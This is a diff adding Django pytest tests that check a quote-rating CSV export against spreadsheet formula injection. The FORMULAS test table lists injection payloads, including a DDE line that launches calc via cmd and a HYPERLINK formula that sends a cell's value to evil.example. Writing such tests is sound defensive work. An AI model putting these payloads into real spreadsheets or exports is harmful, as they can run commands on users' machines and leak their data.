@@ -12,6 +12,7 @@ import pytest
 from django.test import Client
 
 from sonae.apps.programmes.models import Programme
+from sonae.apps.quotes import rate_file as rate_file_module
 from sonae.config import quote_command
 from tests import clock
 
@@ -206,3 +207,75 @@ def test_a_large_file_is_answered_row_by_row_across_the_pieces(programme: Progra
     code, answers = rate_file(tmp_path, text)
     assert code == 0
     assert len(answers) == 100_000
+
+
+# --- F19: what somebody wrote into a cell is no formula in the answer
+
+FORMULAS = {
+    "equals": "=1+1",
+    "plus": "+1+1",
+    "minus": "-1+1",
+    "at": "@SUM(A1)",
+    "tab": "\t=1+1",
+    "return": "\r=1+1",
+    "line feed": "\n=1+1",
+    "full-width equals": "＝1+1",
+    "full-width plus": "＋1+1",
+    "full-width minus": "－1+1",
+    "full-width at": "＠SUM(A1)",
+    "another program": "=cmd|' /C calc'!A0",
+    "a link that carries off": '=HYPERLINK("https://evil.example?x="&A1,"見る")',
+    "behind blanks": " \u3000\u00a0=1+1",
+    "behind quotes": "\"'=1+1",
+    "behind a mark that nobody sees": "\ufeff=1+1",
+}
+CELLS = HEAD.split(",")
+
+
+def rate_cells(folder: Path, cells: dict[str, str]) -> dict[str, str]:
+    with (folder / "typed.csv").open("w", encoding="utf-8", newline="") as typed:
+        writer = csv.writer(typed, quoting=csv.QUOTE_ALL)
+        writer.writerows([CELLS, [cells[name] for name in CELLS]])
+    _, answers = rate_file(folder, (folder / "typed.csv").read_bytes())
+    assert len(answers) == 1
+    return answers[0]
+
+
+@pytest.mark.parametrize("column", CELLS)
+@pytest.mark.parametrize("payload", FORMULAS.values(), ids=FORMULAS)
+def test_what_stands_in_a_cell_never_becomes_a_formula(
+    programme: Programme, tmp_path: Path, column: str, payload: str
+) -> None:
+    good = dict(zip(CELLS, ("retail", "5000000", "P100", "2026-12-01"), strict=True))
+    answer = rate_cells(tmp_path, good | {column: payload})
+    assert answer[column] == f"'{payload}"
+    assert [answer[name] for name in CELLS if name != column] == [good[name] for name in CELLS if name != column]
+    assert answer["decision"] == "invalid"
+    again = rate_cells(tmp_path, {name: answer[name] for name in CELLS})
+    assert again == answer
+
+
+@pytest.mark.parametrize("number", ["-5000000", "-0.5", "+5000000", "5000000.00", "0"])
+def test_a_number_stays_a_number_whatever_its_sign(programme: Programme, tmp_path: Path, number: str) -> None:
+    cells = {"industry": "nowhere", "annual_sales": number, "plan": number, "start_on": number}
+    answer = rate_cells(tmp_path, cells)
+    assert {name: answer[name] for name in CELLS} == cells
+    assert rate_cells(tmp_path, {name: answer[name] for name in CELLS}) == answer
+
+
+@pytest.mark.parametrize(
+    "text", ["'", "''", "'retail", "'-5", "''=1", "'\t5", "'\n", '"x"', "a=b", "a\rb", "a\r\n=b", "x,=1"]
+)
+def test_what_was_typed_comes_back_as_it_was(programme: Programme, tmp_path: Path, text: str) -> None:
+    cells = {"industry": text, "annual_sales": "1", "plan": "P100", "start_on": "2026-12-01"}
+    answer = rate_cells(tmp_path, cells)
+    assert answer["industry"] in {text, f"'{text}"}
+    assert rate_cells(tmp_path, {name: answer[name] for name in CELLS}) == answer
+
+
+def test_without_the_mark_a_cell_would_be_a_formula(
+    programme: Programme, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(rate_file_module, "_harmless", lambda text: text)
+    cells = {"industry": "=1+1", "annual_sales": "1", "plan": "P100", "start_on": "2026-12-01"}
+    assert rate_cells(tmp_path, cells)["industry"] == "=1+1"
